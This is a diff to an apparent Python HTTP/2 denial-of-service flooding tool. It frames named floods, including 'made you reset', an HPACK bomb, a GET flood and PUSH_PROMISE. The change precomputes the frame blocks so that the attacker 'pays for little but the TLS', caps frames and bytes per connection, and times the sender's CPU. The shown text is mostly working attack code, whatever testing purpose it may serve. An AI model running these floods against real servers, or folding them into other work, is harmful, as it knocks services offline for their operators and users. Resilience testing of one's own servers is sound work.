@@ -15,6 +15,7 @@ import time
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
+FRAMES_MAX, BYTES_MAX = 1 << 15, 1 << 24  # of a flood, on one connection
 
 
 def frame(kind, flags=0, stream=0, payload=b""):
@@ -146,16 +147,28 @@ FLOODS = {
     "made you reset": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h) +
                        frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0))),
     "HPACK bomb": (None, bomb),
+    "GET": (None, lambda n, h: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, b"\x82\x87\x84\x01\x01x")),
     "PUSH_PROMISE": (None, lambda n, h: frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2))),
 }
 
 
+def blocks(name, head):
+    """A flood's frames in pieces for one write each, made before the clock runs: the attacker shall pay for little but the TLS."""
+    made, size, number = [], 0, 0
+    while number < FRAMES_MAX and size < BYTES_MAX:
+        made.append(b"".join(FLOODS[name][1](n, head) for n in range(number, number + 64)))
+        number, size = number + 64, size + len(made[-1])
+    return made
+
+
 def flood(name, host, cert, key, authority, seconds):
-    """Again and again, with a new connection whenever the last one was closed. Answers are not read: they pile up."""
-    begin, more = FLOODS[name]
+    """Again and again, with a new connection whenever the last one was closed or all frames are out. Answers are not read: they
+    pile up."""
     head = connect_head(authority)
-    end = time.monotonic() + seconds
+    begin, made = FLOODS[name][0], blocks(name, head)
     result = {"frames": 0, "connections": 0, "refused": 0}
+    cpu = time.process_time()
+    end = time.monotonic() + seconds
     while time.monotonic() < end:
         try:
             peer = Peer(host, cert, key)
@@ -163,15 +176,14 @@ def flood(name, host, cert, key, authority, seconds):
             if begin:
                 peer.send(begin(head))
             peer.socket.settimeout(1)
-            number = 0
-            while time.monotonic() < end:
-                peer.send(b"".join(more(n, head) for n in range(number, number + 64)))
-                number += 64
+            for block in made:
+                if time.monotonic() > end:
+                    break
+                peer.send(block)
                 result["frames"] += 64
         except (OSError, ssl.SSLError):
             result["refused"] += 1
-    times = os.times()
-    result["cpu"] = round(times.user + times.system, 2)
+    result["cpu"] = round(time.process_time() - cpu, 2)
     return result
 
 
